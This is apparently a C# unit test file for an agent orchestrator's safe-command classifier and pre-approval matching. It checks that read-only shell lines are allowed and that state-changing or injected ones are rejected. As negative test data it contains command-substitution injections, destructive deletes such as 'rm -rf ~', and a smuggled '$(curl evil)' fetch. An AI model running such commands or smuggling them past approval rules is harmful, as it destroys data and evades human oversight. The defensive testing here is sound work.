using Orchestrator.Core.Exec;
using Orchestrator.Core.Orchestration.Approvals;

namespace Orchestrator.Core.Tests.Orchestration;

[TestClass]
public sealed class SafeCommandsTests
{
    [TestMethod]
    [DataRow("ls -la")]
    [DataRow("git status --short")]
    [DataRow("cat README.md | grep -c Orchestrator")]
    [DataRow("dotnet --info && git log -1")]
    [DataRow("find . -name '*.cs'")]
    public void ReadingCommandsAreSafe(string line) => Assert.IsTrue(SafeCommands.IsSafe(CommandSpec.FromShell(line)), line);

    [TestMethod]
    [DataRow("rm -rf build")]
    [DataRow("echo x > file")]
    [DataRow("ls $(touch pwned)")]
    [DataRow("ls `touch pwned`")]
    [DataRow("ls & touch pwned")]
    [DataRow("git push")]
    [DataRow("find . -delete")]
    [DataRow("find . -exec rm {} +")]
    [DataRow("cat x; make")]
    [DataRow("env rm -rf build")]
    [DataRow("sort -o out.txt in.txt")]
    [DataRow("uniq in.txt out.txt")]
    [DataRow("git diff --output=patch.diff")]
    [DataRow("git branch -D main")]
    [DataRow("find . -okdir rm {} ;")]
    public void AnythingThatCouldChangeStateIsNot(string line) => Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromShell(line)), line);

    [TestMethod]
    public void ArgvCommandsAndConfiguredPrefixesAreMatchedByTokens()
    {
        Assert.IsTrue(SafeCommands.IsSafe(CommandSpec.FromArgv("/usr/bin/git", "diff", "HEAD~1")));
        Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromArgv("make", "-n")));
        Assert.IsTrue(SafeCommands.IsSafe(CommandSpec.FromArgv("make", "-n", "all"), [["make", "-n"]]));
    }

    [TestMethod]
    public void ARulePrefixMatchesTheProgramByNameButNeverApprovesWhatAShellLineAddsAfterIt()
    {
        var rule = new PreApproval(["dotnet", "restore"], ApprovalAction.Escalate, ApprovalScope.Persistent, null, "test");

        Assert.IsTrue(rule.Matches(ApprovalAction.Escalate, ["/usr/bin/dotnet", "restore", "--locked-mode"]));
        Assert.IsTrue(rule.Matches(ApprovalAction.Escalate, ApprovalSubject.Tokens(CommandSpec.FromShell("dotnet restore --locked-mode")), fromShellLine: true));
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ApprovalSubject.Tokens(CommandSpec.FromShell("dotnet restore && rm -rf ~")), fromShellLine: true));
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ApprovalSubject.Tokens(CommandSpec.FromShell("dotnet restore > /etc/x")), fromShellLine: true));
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ApprovalSubject.Tokens(CommandSpec.FromShell("dotnet restore $(curl evil)")), fromShellLine: true));
        Assert.IsFalse(rule.Matches(ApprovalAction.Run, ["dotnet", "restore"]));
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ["dotnet", "build"]));
    }
}
